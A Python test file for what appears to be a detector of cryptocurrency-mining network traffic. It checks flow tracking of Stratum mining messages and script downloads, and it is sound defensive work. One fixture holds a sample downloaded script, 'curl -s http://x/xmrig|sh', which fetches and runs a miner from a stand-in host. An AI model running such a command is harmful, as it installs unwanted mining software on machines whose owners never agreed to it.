"""The flow stage directly: lifecycle edge cases found by fuzzing the fast path against it."""

from __future__ import annotations

from detector import flows
from detector.capture.model import ACK, PSH, SYN, Packet
from detector.flows import FlowTable
from detector.scan import ScanOptions, build_findings

CLIENT, SERVER = ("10.0.0.5", 40000), ("192.0.2.9", 3333)


def pkt(ts: float, seq: int, payload: bytes, from_client: bool = True, flags: int = ACK | PSH) -> Packet:
    (src, sp), (dst, dp) = (CLIENT, SERVER) if from_client else (SERVER, CLIENT)
    return Packet(ts, src, dst, 6, sp, dp, payload, 40 + len(payload), flags, seq, 1)


def test_flow_settled_as_not_mining_while_flushing_at_its_end():
    table = FlowTable()
    table.add(pkt(0.0, 99, b"", flags=SYN))
    line = b'{"jsonrpc":"2.0","method":"echo","params":["x"],"id":1}\n'
    seq = 100
    for i in range(flows.UNCONFIRMED_MESSAGE_LIMIT - 2):
        table.add(pkt(1.0 + i, seq, line))
        seq += len(line)
    lost = len(line)  # one segment never captured: the rest waits behind the hole until the end
    for i in range(5):
        table.add(pkt(100.0 + i, seq + lost + i * len(line), line))
    assert table.finish() == []


def test_timestamps_running_backwards_keep_a_valid_window():
    table = FlowTable()
    table.add(pkt(50.0, 99, b"", flags=SYN))
    table.add(pkt(51.0, 100, b'{"id":1,"method":"mining.subscribe","params":["cgminer/4.9.0"]}\n'))
    table.add(pkt(52.0, 1, b'{"id":null,"method":"mining.set_difficulty","params":[1024]}\n', from_client=False))
    table.add(pkt(10.0, 100 + 64, b'{"id":2,"method":"mining.submit","params":["w","j","0","1","2"]}\n'))
    (session,) = table.finish()
    assert session.first_seen <= session.last_seen
    findings = build_findings([], [session], table, 2, ScanOptions())
    (host,) = findings["hosts"]
    assert host["energy_kwh_window"]["best"] is not None and host["energy_kwh_window"]["best"] >= 0


def test_download_of_a_script_is_recorded_and_ends_inspection():
    table = FlowTable()
    ignored = []
    table.on_ignore = lambda *key: ignored.append(key)
    table.add(pkt(1.0, 99, b"", flags=SYN))
    table.add(pkt(1.1, 100, b"GET /x.sh HTTP/1.1\r\nHost: 198.51.100.9\r\n\r\n"))
    table.add(pkt(1.2, 1, b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 40\r\n\r\n"
                  b"#!/bin/sh\ncurl -s http://x/xmrig|sh\n", from_client=False))
    (receiver, download), = table.downloads
    assert receiver == CLIENT[0]
    assert (download.kind, download.url, download.ts) == ("script", "http://198.51.100.9/x.sh", 1.2)
    assert ignored == [(CLIENT[0], CLIENT[1], SERVER[0], SERVER[1], 6)]


def test_json_rpc_of_other_services_is_ignored_after_four_requests():
    table = FlowTable()
    ignored = []
    table.on_ignore = lambda *key: ignored.append(key)
    seq = 100
    for i in range(flows.FOREIGN_METHOD_LIMIT):
        line = b'{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":%d}\n' % i
        assert not ignored
        table.add(pkt(float(i), seq, line))
        seq += len(line)
    assert len(ignored) == 1 and table.finish() == []


def test_repeated_x_stratum_headers_are_kept_once():
    table = FlowTable()
    table.add(pkt(0.0, 99, b"", flags=SYN))
    cseq, sseq = 100, 1
    for i in range(300):
        body = b'{"method":"getwork","params":[],"id":%d}' % i
        req = b"POST / HTTP/1.1\r\nHost: pool.example.org\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
        table.add(pkt(1.0 + i, cseq, req))
        cseq += len(req)
        reply = b'{"result":{"data":"00","target":"' + b"f" * 56 + b'00000000","midstate":"00","hash1":"00"},"id":%d}' % i
        resp = (b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Stratum: stratum+tcp://pool.example.org:3333\r\n"
                b"Content-Length: %d\r\n\r\n%s" % (len(reply), reply))
        table.add(pkt(1.5 + i, sseq, resp, from_client=False))
        sseq += len(resp)
    (session,) = table.finish()
    assert session.redirects == ["stratum+tcp://pool.example.org:3333"]
    assert sum("X-Stratum" in e for e in session.evidence) == 1 and len(session.evidence) <= 24
